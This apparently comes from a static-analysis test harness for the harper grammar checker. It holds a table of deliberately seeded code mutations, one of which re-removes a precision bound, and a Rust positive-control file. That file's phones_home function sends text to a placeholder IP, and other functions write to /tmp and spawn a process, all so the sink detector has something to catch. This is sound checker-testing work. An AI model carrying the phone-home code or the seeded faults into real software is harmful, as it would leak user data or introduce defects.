    E("p-c10-config-store-as-match", ["C10"], "harper-ls/src/backend.rs",
      "        if let Ok(new_config) = Config::from_lsp_config(json_obj).map_err(|err| error!(\"{err}\")) {\n            let mut config = self.config.write().await;\n            *config = new_config;\n        }\n",
      "        match Config::from_lsp_config(json_obj) {\n            Ok(new_config) => {\n                let mut config = self.config.write().await;\n                *config = new_config;\n            }\n            Err(err) => error!(\"{err}\"),\n        }\n",
      None),
]

GROUPS["g30"] += [
    E("c06-report-without-lowercase-test", ["C06"], "harper-core/src/linting/spell_check.rs",
      "                    && (self.dictionary.contains_exact_word(word_chars)\n                        || self.dictionary.contains_exact_word(&word_chars.to_lower()))\n",
      "                    && (self.dictionary.contains_exact_word(word_chars)\n                        || (!word_chars.iter().skip(1).any(|c| c.is_uppercase())\n                            && self.dictionary.contains_exact_word(&word_chars.to_lower())))\n",
      "R-C06-accept:SpellCheck::lint:report-needs-both-misses"),
]

GROUPS["g30"] += [
    # F31: the run-time precision is unbounded again
    E("c01-precision-unbounded", ["C01"], "harper-core/src/number.rs",
      "            let precision = self.precision.min(u16::MAX as usize);\n",
      "            let precision = self.precision;\n",
      "R-C01-fmtarg:<Number@Display>::fmt:from_usize#0"),
]
