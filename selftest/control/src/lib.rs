//! Positive control for the C10 sink matcher: three functions that *do* reach a network,
//! a file-modifying and a process-spawning sink.  Compiled with the fact extractor on every
//! run of the C10 check; the who-may-call rules must report all three, otherwise the matcher
//! is dead and a clean result on harper means nothing.
use std::io::Write;

pub fn phones_home(text: &str) {
    if let Ok(mut s) = std::net::TcpStream::connect("203.0.113.7:80") {
        let _ = s.write_all(text.as_bytes());
    }
}

pub fn dumps(text: &str) {
    let sink: &dyn Fn(&str) = &|t| {
        let _ = std::fs::write("/tmp/hf-control-dump.txt", t);
    };
    sink(text);
}

pub fn spawns() {
    let _ = std::process::Command::new("true").status();
}
